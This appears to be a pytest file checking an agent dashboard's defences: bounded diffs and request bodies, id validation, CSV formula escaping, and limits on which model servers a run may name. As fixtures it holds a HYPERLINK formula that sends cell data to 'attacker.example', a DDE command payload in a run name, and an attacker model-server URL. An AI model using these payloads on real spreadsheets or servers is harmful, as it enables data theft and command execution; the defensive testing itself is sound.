"""What one dashboard request may cost and ask: heavy diffs are refused small (with a download
instead), ids are validated, bodies are bounded as they arrive, CSV cells never start a
formula, and without a token no run may point the operator's engine at a new model server."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from fastapi.testclient import TestClient

from hyperagents.dashboard import create_app
from hyperagents.dashboard._views import diff
from hyperagents.program import Program
from hyperagents.runs import DiffLimits
from hyperagents.storages import InMemoryStorage, RDBStorage, RunSpec, VariantState

from dashboard_helpers import Site, csrf

SEED = {"task_agent.py": "def solve(x):\n    return 1\n", "meta_agent.py": "# meta\n"}
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@dataclass
class Heavy:
    client: TestClient
    seed: int
    heavy: int  # 120 files of 500 KiB
    one_big: int  # one file over the per-file limit, one small change
    formula: int


@pytest.fixture(scope="module")
def heavy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Heavy]:
    url = f"sqlite:///{tmp_path_factory.mktemp('limits') / 'heavy.db'}"
    store = RDBStorage(url)
    seed_id = store.put_program(Program(SEED))
    run_id = store.create_run(RunSpec(
        name="=cmd|' /C calc'!A0", task="review", mode="hyperagent", seed=0, config={},
        seed_program_id=seed_id,
    ))  # fmt: skip
    seed = store.create_variant(
        run_id=run_id, generation=0, parent_id=None, state=VariantState.COMPLETE, program_id=seed_id
    )
    chunk = ("value = " + "1" * 91 + "\n") * 5120  # 500 KiB, 5,120 lines
    files = {f"data/f{i:03}.py": f"# {i}\n{chunk}" for i in range(120)}
    programs = [
        Program({**SEED, **files}),
        Program({**SEED, "task_agent.py": "def solve(x):\n    return 2\n", "big.txt": chunk * 2}),
    ]
    made = [
        store.create_variant(
            run_id=run_id, generation=g, parent_id=seed, program_id=store.put_program(p)
        )
        for g, p in enumerate(programs, start=1)
    ]
    formula = store.create_variant(run_id=run_id, generation=3, parent_id=seed)
    store.set_variant_state(
        formula, VariantState.FAILED, expected=VariantState.RUNNING, reason=FORMULA
    )
    app = create_app(store, storage_url=url)
    with TestClient(app, base_url="http://127.0.0.1:8000") as client:
        client.get("/")
        yield Heavy(client, seed, made[0], made[1], formula)
    store.close()


# -- diffs ----------------------------------------------------------------------------------
def test_a_heavy_diff_is_refused_small_and_offered_as_a_download(heavy: Heavy) -> None:
    response = heavy.client.get(f"/api/variants/{heavy.heavy}/diff")
    assert response.status_code == 200, response.text
    assert len(response.content) < 64 * 1024  # a message and a file list, not 60 MB of HTML
    body = response.json()
    assert body["too_large"] == "the changed files hold 58.6 MiB (limit 4.0 MiB)"
    assert len(body["files"]) == 120 and all(not f["hunks"] for f in body["files"])
    assert body["download"] == f"/api/variants/{heavy.heavy}/diff.zip"
    archive = heavy.client.get(body["download"])
    assert archive.status_code == 200
    assert archive.headers["content-type"] == "application/zip"
    assert "attachment" in archive.headers["content-disposition"]
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zf:
        names = set(zf.namelist())
        assert {"a/task_agent.py", "b/task_agent.py", "b/data/f119.py"} <= names
        assert zf.read("b/data/f007.py").startswith(b"# 7\nvalue = 111")
        assert "a/data/f007.py" not in names


def test_a_file_over_its_limit_is_skipped_and_the_others_shown(heavy: Heavy) -> None:
    body = heavy.client.get(f"/api/variants/{heavy.one_big}/diff").json()
    files = {f["path"]: f for f in body["files"]}
    assert body["too_large"] is None
    assert "per file" in files["big.txt"]["too_large"] and files["big.txt"]["hunks"] == []
    assert files["task_agent.py"]["added"] == 1 and files["task_agent.py"]["hunks"]


def test_the_page_stops_adding_files_at_its_output_limit() -> None:
    old = Program({f"f{i}.py": "" for i in range(3)})
    new = Program({f"f{i}.py": "".join(f"x{j} = {j}\n" for j in range(200)) for i in range(3)})
    shown = diff(old, new, limits=DiffLimits(output_bytes=30_000))
    first, *rest = shown["files"]
    assert first["added"] == 200
    assert all("page's limit" in f["too_large"] for f in rest)


# -- ids --------------------------------------------------------------------------------------
HUGE = "99999999999999999999999"


@pytest.mark.parametrize(
    ("method", "url", "status"),
    [
        ("GET", f"/api/variants/{HUGE}", 422),
        ("GET", "/api/variants/0", 422),
        ("GET", "/api/variants/9223372036854775807", 404),
        ("GET", f"/api/variants/{HUGE}/diff", 422),
        ("GET", "/api/variants/1/diff?against=" + HUGE, 422),
        ("GET", f"/api/variants/{HUGE}/file?path=a.py", 422),
        ("GET", f"/api/variants/{HUGE}/llm", 422),
        ("GET", f"/api/variants/{HUGE}/try", 422),
        ("POST", f"/api/variants/{HUGE}/approve", 422),
        ("GET", f"/api/runs/{HUGE}", 404),
        ("GET", "/api/runs/9223372036854775808", 404),
        ("GET", "/api/runs/²", 404),
        ("GET", f"/api/runs/{HUGE}/archive", 404),
        ("GET", f"/api/runs/1/events?variant={HUGE}", 422),
        ("GET", f"/api/runs/1/events?before={HUGE}", 422),
    ],
)
def test_ids_out_of_range_are_refused_never_a_500(
    heavy: Heavy, method: str, url: str, status: int
) -> None:
    response = heavy.client.request(method, url, json={}, headers=csrf(heavy.client))
    assert response.status_code == status, response.text
    assert "error" in response.json()


# -- request bodies -----------------------------------------------------------------------------
def test_a_try_body_over_its_limit_is_refused_by_its_length(client: TestClient, site: Site) -> None:
    record = site.storage.get_run_by_name(site.run)
    seed = site.storage.list_variants(record.id)[0]
    url = f"/api/variants/{seed.id}/try"
    headers = {**csrf(client), "content-type": "application/json"}
    announced = client.post(
        url, content=b'{"inputs": 1}', headers={**headers, "content-length": str(100 * 2**20)}
    )
    assert announced.status_code == 413

    def chunks() -> Iterator[bytes]:  # sent without a length: counted as it arrives
        yield b'{"inputs": "'
        for _ in range(40):
            yield b"x" * 8192
        yield b'"}'

    streamed = client.post(url, content=chunks(), headers=headers)
    assert streamed.status_code == 413
    assert "too large" in streamed.json()["error"].lower()
    fits = client.post(url, json={"inputs": {"x": 0.9, "pad": "p" * 200_000}}, headers=csrf(client))
    assert fits.status_code == 200, fits.text


def test_other_bodies_are_small(client: TestClient) -> None:
    big = client.post("/api/runs", json={"task": "x" * 100_000}, headers=csrf(client))
    assert big.status_code == 413


# -- CSV ---------------------------------------------------------------------------------------
def test_csv_cells_never_start_a_formula(heavy: Heavy) -> None:
    rows = list(csv.DictReader(io.StringIO(heavy.client.get("/api/runs.csv").text)))
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0"
    run = rows[0]["id"]
    variants = list(
        csv.DictReader(io.StringIO(heavy.client.get(f"/api/runs/{run}/export.csv").text))
    )
    reasons = {int(r["variant_id"]): r["reason"] for r in variants}
    assert reasons[heavy.formula] == "'" + FORMULA


# -- models from the browser --------------------------------------------------------------------
ATTACKER = "http://attacker.example:8080/v1#m"


@pytest.mark.parametrize("listed", [False, True])
def test_without_a_token_only_a_server_the_operator_set_up_may_be_named(
    monkeypatch: pytest.MonkeyPatch, listed: bool
) -> None:
    monkeypatch.setenv("HYPERAGENTS_LLM_API_KEY", "sk-operator")
    if listed:
        monkeypatch.setenv("HYPERAGENTS_LLM_API_KEY_URLS", "http://attacker.example:8080/v1")
    else:
        monkeypatch.setenv("HYPERAGENTS_LLM_API_KEY_URLS", "https://models.example/v1")
    app = create_app(InMemoryStorage(), storage_url="memory")
    with TestClient(app, base_url="http://localhost") as client:
        client.get("/")
        asked = client.post(
            "/api/runs", json={"task": "review", "llm": ATTACKER}, headers=csrf(client)
        )
        hosted = client.post(
            "/api/runs", json={"task": "review", "llm": "openai:gpt-4.1-mini"}, headers=csrf(client)
        )
    # 409: the check passed, and this dashboard cannot start engines (its storage is memory).
    assert hosted.status_code == 409
    if listed:
        assert asked.status_code == 409
    else:
        assert asked.status_code == 400 and "--token" in asked.json()["error"]


def test_with_a_token_any_server_may_be_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HYPERAGENTS_LLM_API_KEY_URLS", raising=False)
    token = "t" * 24
    app = create_app(InMemoryStorage(), storage_url="memory", token=token)
    with TestClient(app, base_url="http://localhost") as client:
        asked = client.post(
            "/api/runs",
            json={"task": "review", "llm": ATTACKER},
            headers={"Authorization": f"Bearer {token}"},
        )
    assert asked.status_code == 409  # past the model check; the key stays bound (llm._keys)
